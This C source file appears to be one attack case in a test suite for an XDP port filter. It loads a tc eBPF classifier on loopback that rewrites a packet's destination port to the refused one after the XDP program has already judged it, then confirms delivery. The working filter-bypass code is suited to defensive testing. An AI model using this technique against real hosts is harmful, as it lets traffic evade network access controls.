// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Sends to a port that nobody refuses, and has a filter of tc write the refused one into the packet, after the victim's program (XDP)
 * has judged it.
 * Success: the packet arrives at the refused port.
 */
#include "bpf.h"
#include "traffic_control.h"
#include <arpa/inet.h>
#include <linux/pkt_cls.h>
#include <sys/socket.h>

#define FREE 7100
#define PORT_AT (14 + 20 + 2) /* behind the headers of Ethernet and IP, the destination */

static void run(void)
{
	struct program program = { .type = BPF_PROG_TYPE_SCHED_CLS };
	struct sockaddr_in refused = { .sin_family = AF_INET, .sin_port = htons(PORT_XDP), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) }, free = refused;
	struct timeval patience = { .tv_sec = 1 };
	int receiver = socket(AF_INET, SOCK_DGRAM, 0), sender = socket(AF_INET, SOCK_DGRAM, 0), no_check = 1;
	char byte;
	int rewrite = must("BPF_PROG_LOAD",
			   LOAD(program, COPY(BPF_REG_6, BPF_REG_1), COPY(BPF_REG_3, BPF_REG_10), ADD(BPF_REG_3, -8), SET(BPF_REG_2, PORT_AT), SET(BPF_REG_4, 2),
				CALL(BPF_FUNC_skb_load_bytes), IF(BPF_JNE, BPF_REG_0, 0, 10), READ(BPF_H, BPF_REG_1, BPF_REG_10, -8), IF(BPF_JNE, BPF_REG_1, htons(FREE), 8),
				PUT(BPF_H, BPF_REG_10, -8, htons(PORT_XDP)), COPY(BPF_REG_1, BPF_REG_6), SET(BPF_REG_2, PORT_AT), COPY(BPF_REG_3, BPF_REG_10),
				ADD(BPF_REG_3, -8), SET(BPF_REG_4, 2), SET(BPF_REG_5, 0), CALL(BPF_FUNC_skb_store_bytes), SET(BPF_REG_0, TC_ACT_OK), RETURN));

	must("tc qdisc add", add_qdisc("lo"));
	must("tc filter add", add_filter("lo", rewrite));
	free.sin_port = htons(FREE);
	must("bind", bind(receiver, (void *)&refused, sizeof(refused)));
	setsockopt(receiver, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(sender, SOL_SOCKET, SO_NO_CHECK, &no_check, sizeof(no_check));
	must("send", sendto(sender, "x", 1, 0, (void *)&free, sizeof(free)));
	must("receive", recv(receiver, &byte, 1, 0));
	got("a packet at the port that is refused");
}

static void undo(void)
{
	remove_qdisc("lo");
}

ATTACK("writes the refused port into a packet behind the victim's program", .run = run, .undo = undo, .limit = "changed behind it");
